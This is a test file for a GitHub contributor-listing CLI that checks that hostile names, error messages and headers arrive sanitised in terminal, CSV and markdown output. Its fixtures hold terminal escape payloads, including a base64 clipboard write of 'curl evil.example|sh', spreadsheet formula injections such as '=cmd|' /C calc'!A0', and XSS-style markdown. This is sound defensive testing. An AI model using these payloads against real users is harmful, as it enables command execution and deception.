/**
 * Text that comes from a server the user does not control (display names, logins, CONTRIBUTORS
 * lines, wiki authors, error messages, the repository's own name) is full of terminal escapes,
 * control characters, bidi overrides, markdown and spreadsheet formulas, and 10,000 characters long.
 * Nothing of it may reach the terminal as a control, and csv and markdown cells must be inert.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { outputFormats } from '../../src/options.js';
import type { FakeRepo, FakeUser } from '../fake-github/server.js';
import { runCli, startCli } from '../e2e/run-cli.js';
import type { CliResult } from '../e2e/run-cli.js';
import { createWiki } from '../e2e/wiki.js';
import { startWorld } from '../e2e/world.js';
import type { World } from '../e2e/world.js';

const ESC = '\u001b';
const BEL = '\u0007';

/** Every way a string can take over a terminal, or hide what it is, that we know of. */
const attacks = {
  sgr: `${ESC}[31mred${ESC}[0m`,
  clear: `${ESC}[2J${ESC}[H`,
  title: `${ESC}]0;owned${BEL}`,
  hyperlink: `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`,
  clipboard: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${BEL}`,
  dcs: `${ESC}P+q544e${ESC}\\`,
  c1Csi: '\u009b31mc1',
  c1Osc: '\u009d0;c1title\u009c',
  bidi: 'abc\u202edcba\u202c',
  isolate: '\u2067hidden\u2069',
  controls: 'nul\u0000bs\u0008cr\rlf\nbel\u0007del\u007f',
  lineSeparator: 'a\u2028b\u2029c',
} as const;

const tenThousand = `Long${'x'.repeat(10_000)}`;
const formula = '=HYPERLINK("https://evil.example","click")';
const markdown = '[click](javascript:alert(1)) <img src=x onerror=alert(1)> | col | `code` **bold**';

function hostileWorldData(): { users: FakeUser[]; repo: FakeRepo } {
  const attackNames = Object.entries(attacks).map(([kind, text]) => ({ login: `name-${kind.toLowerCase()}`, name: `Name ${text} end` }));
  const users: FakeUser[] = [
    { login: 'hostile-org', type: 'Organization', name: attacks.title },
    ...attackNames,
    { login: 'long-name', name: tenThousand },
    { login: 'formula', name: formula },
    { login: 'plus-name', name: '+1-555-0100' },
    { login: 'at-name', name: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
    { login: 'minus-name', name: '-2+3' },
    { login: 'markdown', name: markdown },
    // A login no GitHub would send, but a hostile server might.
    { login: `evil${ESC}]0;login${BEL}${ESC}[2Jlogin\u202e`, name: null },
  ];
  const everyone = users.filter((user) => user.type !== 'Organization').map((user) => user.login);
  const contributorsFile = [
    '# Hostile CONTRIBUTORS',
    `File ${attacks.title} Person <github:@name-sgr>`,
    `Clip ${attacks.clipboard}`,
    `Unknown <${ESC}[31mscheme:${ESC}]0;x${BEL}>`,
    `Bidi ${attacks.bidi} <bidi@example.org>`,
    `=cmd|' /C calc'!A0`,
    `@SUM(1+1)`,
    `${'y'.repeat(10_000)}`,
    `C1 ${attacks.c1Csi} ${attacks.c1Osc}`,
    `Markdown ${markdown}`,
  ].join('\n');
  const allContributorsRc = JSON.stringify({
    projectName: `hostile ${attacks.c1Csi} ${attacks.bidi}`,
    badgeTemplate: `${attacks.isolate} ${attacks.c1Osc}`,
    contributors: [
      { login: 'markdown', name: `RC ${attacks.hyperlink}` },
      {
        login: 'name-bidi',
        name: `RC ${attacks.c1Csi} ${attacks.bidi}`,
        avatar_url: `https://avatars.example/${attacks.isolate}`,
        profile: `https://example.org/${attacks.c1Csi}`,
        contributions: [`code${attacks.bidi}`, 'doc'],
      },
      { login: `bad${ESC}login`, name: 'not a login' },
    ],
  });
  const repo: FakeRepo = {
    owner: 'hostile-org',
    name: 'hostile-repo',
    contributors: everyone.slice(0, 6).map((login, index) => ({ login, contributions: index + 1 })),
    issues: everyone.map((author, index) => ({ author, pullRequest: index % 2 === 1, title: `${attacks.title} issue ${index}` })),
    issueComments: everyone.map((author) => ({ author, body: attacks.clear })),
    reviewComments: [],
    commitComments: [],
    files: { CONTRIBUTORS: contributorsFile, '.all-contributorsrc': allContributorsRc },
  };
  return { users, repo };
}

/** What must never be written to a terminal: escapes, C0 but newline (and CR of a CRLF), C1, bidi controls. */
const forbidden = /[\u0000-\u0009\u000b-\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]|\r(?!\n)/u;

function expectInert(text: string, where: string): void {
  const match = forbidden.exec(text);
  expect(match, `${where} holds ${JSON.stringify(match?.[0])} at ${match?.index}: ${JSON.stringify(text.slice(Math.max(0, (match?.index ?? 0) - 40), (match?.index ?? 0) + 40))}`).toBeNull();
}

/** RFC 4180 rows (quoted cells with "" escapes, CRLF between rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index] as string;
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        cell += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else cell += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      index += 1;
    } else cell += character;
  }
  expect(quoted, 'an unclosed quote').toBe(false);
  expect(cell + row.join(''), 'text after the last CRLF').toBe('');
  return rows;
}

let world: World;
const runs = new Map<string, CliResult>();

beforeAll(async () => {
  const { users, repo } = hostileWorldData();
  world = await startWorld({ fixture: { users, repo, facts: undefined as never } });
  createWiki(world.serverDir, 'hostile-org/hostile-repo', [
    { name: `Wiki ${attacks.title}${attacks.sgr}`, email: 'wiki@example.org' },
    { name: `Wiki ${attacks.bidi}`, email: `${ESC}[2Jx@example.org` },
  ]);
  // One cold run fills the cache; the others are answered from it (the same text, from disk this time).
  for (const format of outputFormats) runs.set(format, await runCli(['hostile-org/hostile-repo', '--format', format, '--verbose'], world.env));
  runs.set('anonymous', await runCli(['hostile-org/hostile-repo', '--no-cache'], { ...world.env, GH_TOKEN: undefined }));
  runs.set('dry-run', await runCli(['hostile-org/hostile-repo', '--dry-run', '--no-cache'], world.env));
}, 60_000);
afterAll(async () => {
  await world.close();
});

describe('hostile text from the server', () => {
  it.each([...outputFormats, 'anonymous'])('%s: stdout and stderr carry no control character, escape or bidi override', (format) => {
    const result = runs.get(format);
    expect(result?.code, result?.stderr).toBe(0);
    expectInert(result?.stdout ?? '', `${format} stdout`);
    expectInert(result?.stderr ?? '', `${format} stderr`);
    // The people are all there (the attack did not hide anyone), the visible parts of their names too.
    expect(result?.stdout).toMatch(/Name red end|Name red end/);
    expect(result?.stdout).toContain('Long');
  });

  it('--dry-run: stdout and stderr carry no control character, escape or bidi override', () => {
    const result = runs.get('dry-run');
    expect(result?.code, result?.stderr).toBe(0);
    expectInert(result?.stdout ?? '', 'dry-run stdout');
    expectInert(result?.stderr ?? '', 'dry-run stderr');
  });

  it('cuts a 10,000-character name to 200 characters', () => {
    const report = JSON.parse(runs.get('json')?.stdout ?? '{}') as { contributors: Array<{ login: string | null; name: string | null }> };
    for (const person of report.contributors) {
      expect((person.name ?? '').length).toBeLessThanOrEqual(200);
      expect((person.login ?? '').length).toBeLessThanOrEqual(200);
    }
    expect(report.contributors.find((c) => c.login === 'long-name')?.name).toMatch(/^Longx+…$/);
  });

  it('warns about the CONTRIBUTORS lines it could not read, without echoing their escapes', () => {
    const stderr = runs.get('text')?.stderr ?? '';
    expect(stderr).toMatch(/CONTRIBUTORS: .*line \d+ has an unknown </);
    expect(stderr).toMatch(/line \d+ is longer than 1000 characters/);
  });

  it('csv: every cell a spreadsheet would run as a formula is quoted with a leading apostrophe', () => {
    const rows = parseCsv(runs.get('csv')?.stdout ?? '');
    expect(rows[0]).toEqual(['login', 'name', 'type', 'kinds', 'repositories', 'counts']);
    for (const row of rows) {
      expect(row).toHaveLength(6);
      for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
    }
    const names = rows.map((row) => row[1]);
    expect(names).toContain(`'${formula}`);
    expect(names).toContain("'=cmd|' /C calc'!A0");
    expect(names).toContain("'@SUM(1+1)");
    expect(names).toContain("'+1-555-0100");
    expect(names).toContain("'-2+3");
  });

  it('markdown: a name cannot break the table, add a link or an image, or carry HTML', () => {
    const lines = (runs.get('markdown')?.stdout ?? '').split('\n').filter((line) => line.startsWith('|'));
    expect(lines.length).toBeGreaterThan(10);
    for (const line of lines) {
      const unescaped = (pattern: string): number => (line.match(new RegExp(`(?<!\\\\)\\${pattern}`, 'g')) ?? []).length;
      // Three cell borders per row, whatever the name.
      expect(unescaped('|'), line).toBe(3);
      expect(line, line).not.toMatch(/(?<!\\)<|(?<!\\)`/);
      // The only links are the profile links the formatter makes: [@login](server/login).
      const links = [...line.matchAll(/(?<!\\)\[(.*?)(?<!\\)\]\((.*?)\)/g)];
      for (const [, text, target] of links) {
        expect(text).toMatch(/^@/);
        expect(target).toMatch(/^file:\/\/\S+\/(apps\/)?[A-Za-z0-9%._-]+$/);
      }
    }
    expect(lines.join('\n')).toContain('\\[click\\]\\(javascript\\:alert\\(1\\)\\)');
  });
});

describe('hostile text in what GitHub says went wrong', () => {
  it.each([
    ['an error message', { match: /^\/repos\/hostile-org\/hostile-repo$/, kind: 'status' as const, status: 403, message: `Forbidden ${attacks.title}${attacks.clear}${attacks.bidi}${attacks.c1Osc}` }, 1],
    ['a GraphQL error', { match: '/graphql', kind: 'body' as const, body: JSON.stringify({ errors: [{ message: `Nope ${attacks.clipboard}${attacks.c1Csi}\u202e` }] }) }, 1],
    ['a body that is not JSON', { match: /\/issues\?/, kind: 'body' as const, body: `\u009b2J${attacks.bidi}${attacks.title} not json` }, 1],
    ['the repository\u2019s own name', { match: /^\/repos\/hostile-org\/hostile-repo$/, kind: 'body' as const, transformBody: (body: string) => body.replace('"full_name":"hostile-org/hostile-repo"', `"full_name":${JSON.stringify(`hostile-org/x${attacks.title}${attacks.bidi}`)}`) }, 1],
  ])('%s: shown without its escapes', async (_label, fault, code) => {
    const own = await startWorld({ fixture: { ...hostileWorldData(), facts: undefined as never } });
    try {
      own.github.addFault(fault);
      const result = await runCli(['hostile-org/hostile-repo', '--no-wiki', '--no-cache'], own.env);
      expect(result.code).toBe(code);
      expect(result.stderr).toMatch(/octohatrack: /);
      expectInert(result.stderr, 'stderr');
      expectInert(result.stdout, 'stdout');
    } finally {
      await own.close();
    }
  });
});

describe('hostile text in the rate-limit headers', () => {
  it('an 8-bit CSI in x-ratelimit-resource does not reach the waiting line', async () => {
    const own = await startWorld({ fixture: { ...hostileWorldData(), facts: undefined as never } });
    try {
      own.github.addFault({ match: /\/issues\?/, kind: 'primary', resetInSeconds: 3600, headers: { 'x-ratelimit-resource': '\u009b2J\u009b31mowned' } });
      const run = startCli(['hostile-org/hostile-repo', '--no-wiki', '--no-cache', '--wait-for-reset'], own.env);
      let stderr = '';
      await new Promise<void>((resolve) => {
        run.child.stderr?.on('data', (chunk: string) => {
          stderr += chunk;
          if (/waiting/.test(stderr)) resolve();
        });
        void run.done.then(() => resolve());
      });
      run.child.kill('SIGINT');
      const result = await run.done;
      expect(result.stderr).toMatch(/REST API primary rate limit: waiting/);
      expectInert(result.stderr, 'stderr');
    } finally {
      await own.close();
    }
  });
});
